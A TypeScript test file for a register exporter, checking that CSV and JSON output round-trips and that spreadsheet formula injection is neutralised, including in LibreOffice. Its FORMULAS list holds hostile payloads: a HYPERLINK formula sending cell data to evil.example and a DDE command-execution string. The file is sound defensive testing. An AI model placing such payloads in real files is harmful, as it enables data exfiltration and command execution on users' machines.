import { describe, expect, test } from 'vitest';
import type { ActionId, DocumentId, OrganisationId, PersonId, SessionId } from '#shared/ids.ts';
import type { RegisterAction } from '#shared/register/register-action.ts';
import { registerFile, type RegisterFileOptions } from '#server/export/register-file.ts';
import { parseCsv } from '../support/csv.ts';
import { convert, lacksLibreOffice } from '../support/libre-office.ts';

/** Texts that spreadsheets interpret as formulas, or once did. */
const FORMULAS = [
	'=HYPERLINK("https://evil.example/?x="&A1,"Open")',
	'+1+1',
	'-2+3',
	'@SUM(1,1)',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'  =1+1',
	'\u0000=1+1',
	'\ufeff=1+1',
	'＝1+1',
	"=cmd|' /C calc'!A0"
];

const organisation = (code: string) => ({
	...{ id: 'o' as OrganisationId, code, name: code, country: 'EU', colour: 'blue' }
});

function action(words: string, change: Partial<RegisterAction> = {}): RegisterAction {
	return {
		...{ id: 'a' as ActionId, document: 'd' as DocumentId, item: undefined, reference: 'JS-01-A1' },
		session: { id: 's' as SessionId, reference: 'JS-01', title: words },
		...{ label: 'TLP:AMBER', text: words, priority: 'normal', lead: organisation(words) },
		...{ leadPerson: { id: 'p' as PersonId, name: words }, support: [organisation(words)] },
		...{ informed: [organisation(words)], due: '2024-09-30', originalDue: undefined, slips: 2 },
		...{ overdue: true, status: 'in-progress', takenOn: 'accepted', revision: 1, changedAt: 0 },
		...{ illustrative: true, void: false, mayEdit: true, moves: ['start'], answers: [] },
		...change
	};
}

async function* pages(...all: RegisterAction[][]) {
	yield* all;
}

async function file(rows: RegisterAction[][], options: Partial<RegisterFileOptions> = {}) {
	const wanted = { format: 'csv', bom: false, delimiter: ',', ...options } as const;
	return (await Array.fromAsync(registerFile(pages(...rows), wanted))).join('');
}

const hostile = FORMULAS.map((words) => action(words));

describe('the register as CSV', () => {
	test('has the label first, marks what is illustrative, and keeps a void number', async () => {
		const gone = action('', { reference: 'JS-01-A2', void: true, illustrative: false });
		const [head = [], ...rows] = parseCsv(await file([[action('Send it')], [gone]]));
		const cells = rows.map((row) => Object.fromEntries(head.map((name, i) => [name, row[i]])));
		expect(head[0]).toBe('Label');
		expect(cells[0]).toMatchObject({
			...{ Label: 'TLP:AMBER', Reference: 'JS-01-A1', Action: 'Send it', Overdue: 'yes' },
			...{
				Status: 'In progress',
				Illustrative: 'yes',
				'Times postponed': '2',
				'Answer of the lead': 'Accepted',
				Due: '2024-09-30'
			}
		});
		const limits = { codes: ['EUROJUST'], named: 0, caveat: 'LIMITE' };
		const [names = [], row = []] = parseCsv(await file([[action('Send it', { limits })]]));
		expect([names[1], row[1]]).toEqual(['Audience and caveat', 'EUROJUST only – LIMITE']);
		expect(cells[1]).toMatchObject({ Reference: 'JS-01-A2', Action: 'void', Status: 'Void' });
	});

	test.for([',', ';'] as const)(
		'parses back with "%s", whatever the words contain',
		async (delimiter) => {
			const words = [
				'a,b;c',
				'say "no"',
				'two\nlines',
				'two\n=1+1',
				'Ελληνικά, україн́ська, ő ű ș',
				'spaced '
			];
			const text = await file([words.map((one) => action(one))], { delimiter });
			const rows = parseCsv(text, delimiter);
			expect(rows.slice(1).map((row) => row[4])).toEqual(words);
			expect(new Set(rows.map((row) => row.length))).toEqual(new Set([19]));
		}
	);

	test('starts with a byte order mark only on request', async () => {
		expect((await file([[action('x')]], { bom: true })).match(/\ufeff/g)).toHaveLength(1);
		expect(await file([[action('x')]])).not.toContain('\ufeff');
	});

	test('has no cell that a spreadsheet would interpret as a formula', async () => {
		const cells = parseCsv(await file([hostile])).flat();
		expect(cells.filter((cell) => /^\s*[=+\-@\t\r\u0000\ufeff＝＋－＠]/.test(cell))).toEqual([]);
		expect(cells.filter((cell) => cell.startsWith("'="))).not.toEqual([]);
	});

	test('is inert in LibreOffice', async ({ skip }) => {
		const lacking = await lacksLibreOffice('calc');
		if (lacking) skip(lacking);
		const sheet = await opened(await file([hostile]));
		expect(sheet).toContain('HYPERLINK'); // as text
		expect(sheet).not.toMatch(/table:formula|xlink:href="https:\/\/evil/);
		// Unprotected words are a formula, so the test would notice one.
		expect(await opened('Action\r\n=1+1\r\n')).toMatch(/table:formula/);
	}, 120_000);
});

describe('the register as JSON', () => {
	test('says which version it is, and has the label on every action', async () => {
		const gone = action('', { void: true });
		const text = await file([hostile, [], [gone]], { format: 'json' });
		const data = JSON.parse(text) as { schema: string; actions: Record<string, unknown>[] };
		expect(data.schema).toBe('briefing-board/actions/1');
		expect(data.actions).toHaveLength(FORMULAS.length + 1);
		expect(data.actions[0]).toMatchObject({
			...{ label: 'TLP:AMBER', text: FORMULAS[0], changedAt: '1970-01-01T00:00:00.000Z' }
		});
		expect(data.actions.every(({ label }) => label === 'TLP:AMBER')).toBe(true);
		expect(text).not.toMatch(/mayEdit|moves/);
	});

	test('is valid if empty', async () => {
		expect(JSON.parse(await file([], { format: 'json' }))).toMatchObject({ actions: [] });
	});
});

/** A CSV file as opened by LibreOffice, in its flat XML format. */
async function opened(csv: string): Promise<string> {
	const filter = 'CSV:44,34,76,1,,0,false,true,false,false,false,-1,true';
	return (await convert('sheet.csv', csv, 'fods', filter)).toString('utf8');
}
